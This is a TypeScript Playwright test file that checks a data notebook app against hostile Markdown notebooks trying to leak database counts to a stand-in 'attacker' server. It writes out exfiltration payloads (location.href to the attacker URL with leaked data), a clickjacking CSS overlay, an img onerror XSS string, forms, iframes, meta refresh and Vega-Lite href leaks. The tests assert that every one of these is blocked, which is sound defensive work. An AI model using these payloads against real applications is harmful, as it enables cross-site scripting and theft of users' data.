/**
 * Probes of issue #14 in the built app: hostile notebooks try to get data to a second local
 * server (the "attacker", another port). Requests to it are let through so that what would leak
 * really arrives; every test ends with the attacker's hit count at zero.
 */
import { expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { notebookIdle as idle } from './app-helpers';
import { cell, hostileSession, openTrusted } from './notebook-helpers';

const session = hostileSession();
const start = () => session.start();
const openFile = (page: Page, text: string) =>
  page.getByTestId('nb-file-input').setInputFiles({ name: 'отчёт.md', mimeType: 'text/markdown', buffer: Buffer.from(text) });
/** Gives a leak (navigation, beacon) time to arrive before counting. */
const settle = (page: Page) => page.waitForTimeout(1500);

test('a Markdown <style> cannot turn a click into trust: the prompt is a modal above the page, and nothing ran', async () => {
  const page = await start();
  const overlay = '<style>[data-testid=nb-trust-accept]{position:fixed!important;inset:0!important;width:100vw!important;height:100vh!important;opacity:0!important;z-index:2147483647!important}</style>';
  const text = `---\ntitle: Отчёт\n---\n\n${overlay}\n\n# Отчёт\n\n\`\`\`sql id=s name=s\nCREATE OR REPLACE TABLE schools AS SELECT 'x' AS school_id\n\`\`\`\n\n\`\`\`ts id=t name=t\nlocation.href = '${session.attacker.url}?leak=' + (await sql\`SELECT count(*) AS n FROM assessment_results\`)[0].n;\nreturn 1;\n\`\`\`\n`;
  const schoolsBefore = await page.evaluate(async () => (await (window as any).msoko.db.query({ type: 'rows', sql: 'SELECT count(*)::INT AS n FROM schools' }))[0].n);
  await openFile(page, text);
  const dialog = page.getByTestId('nb-trust-dialog');
  await dialog.waitFor();
  // The prompt lives outside the notebook's DOM, in the top layer.
  expect(await dialog.evaluate((d) => [d.matches(':modal'), !!d.closest('[data-testid=notebook]')])).toEqual([true, false]);
  await page.mouse.click(5, 5);
  await page.mouse.click(700, 850);
  await idle(page);
  await settle(page);
  expect(await cell(page, 's').getAttribute('data-run-count')).toBe('0');
  expect(await cell(page, 't').getAttribute('data-run-count')).toBe('0');
  // Not even the Markdown ran: the notebook shows its source until trusted.
  expect(await page.locator('[data-testid=cell-md]').count()).toBe(0);
  const schoolsAfter = await page.evaluate(async () => (await (window as any).msoko.db.query({ type: 'rows', sql: 'SELECT count(*)::INT AS n FROM schools' }))[0].n);
  expect(schoolsAfter).toBe(schoolsBefore);
  expect(session.attacker.hits).toEqual([]);
  expect(session.app.offOrigin).toEqual([]);
});

test('Markdown is sanitised strictly, values stay text, and links to other origins ask first', async () => {
  const page = await start();
  const text = `---\ntitle: Ссылки\n---\n\n<style>body{background:red}</style><form action="${session.attacker.url}form"><input name="x" value="1"><button data-testid="evil-submit">Отправить</button></form><iframe src="${session.attacker.url}frame"></iframe><div style="position:fixed;inset:0" data-testid="evil-overlay">x</div><object data="${session.attacker.url}obj"></object><meta http-equiv="refresh" content="0;url=${session.attacker.url}meta"><a href="${session.attacker.url}raw" data-testid="evil-link" onclick="alert(1)">ссылка</a>\n\nЗначение: \${v.s}\n\n[подробнее](${session.attacker.url}?leak=\${v.n})\n\n\`\`\`sql id=v name=v\nSELECT '<img src=x onerror=alert(1)>' AS s, 42 AS n\n\`\`\`\n`;
  await openTrusted(page, text);
  await idle(page);
  const md = page.locator('[data-testid=cell-md]').first();
  await md.waitFor();
  const found = await md.evaluate((el) => ({
    forbidden: el.querySelectorAll('style, form, input, button, iframe, object, meta, link, img').length,
    styled: el.querySelectorAll('[style]').length,
    handlers: [...el.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
    hrefs: [...el.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')),
  }));
  expect(found).toEqual({ forbidden: 0, styled: 0, handlers: 0, hrefs: [] });
  expect(await md.textContent()).toContain('Значение: <img src=x onerror=alert(1)>');

  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.getByText('подробнее').click();
  await page.getByText('ссылка', { exact: true }).click();
  await settle(page);
  expect(dialogs.length).toBe(2);
  expect(dialogs[0]).toContain(`Открыть внешний адрес ${session.attacker.url}?leak=42`);
  expect(session.attacker.hits).toEqual([]);
  expect(session.app.offOrigin).toEqual([]);
});

test('a chart cannot navigate by href nor add menu items through usermeta', async () => {
  const page = await start();
  const spec = {
    width: 300,
    height: 200,
    mark: { type: 'bar', href: `${session.attacker.url}mark` },
    usermeta: { embedOptions: { actions: { export: true, source: true, compiled: true, editor: true }, ast: false } },
    encoding: { x: { field: 'n', type: 'quantitative' }, href: { field: 'u', type: 'nominal' } },
  };
  const text = `---\ntitle: График\n---\n\n\`\`\`sql id=d name=d\nSELECT 10 AS n, '${session.attacker.url}?leak=' || (SELECT count(*) FROM assessment_results) AS u\n\`\`\`\n\n\`\`\`vega-lite id=c data=d\n${JSON.stringify(spec)}\n\`\`\`\n`;
  await openTrusted(page, text);
  await idle(page);
  const chart = cell(page, 'c').getByTestId('cell-chart');
  const mark = chart.locator('.mark-rect path').first();
  await mark.waitFor();
  expect(await chart.locator('.vega-actions, details, a[href], a').count()).toBe(0);
  await mark.click();
  await settle(page);
  expect(page.url().startsWith(session.app.url)).toBe(true);
  expect(session.attacker.hits).toEqual([]);
  expect(session.app.offOrigin).toEqual([]);
});
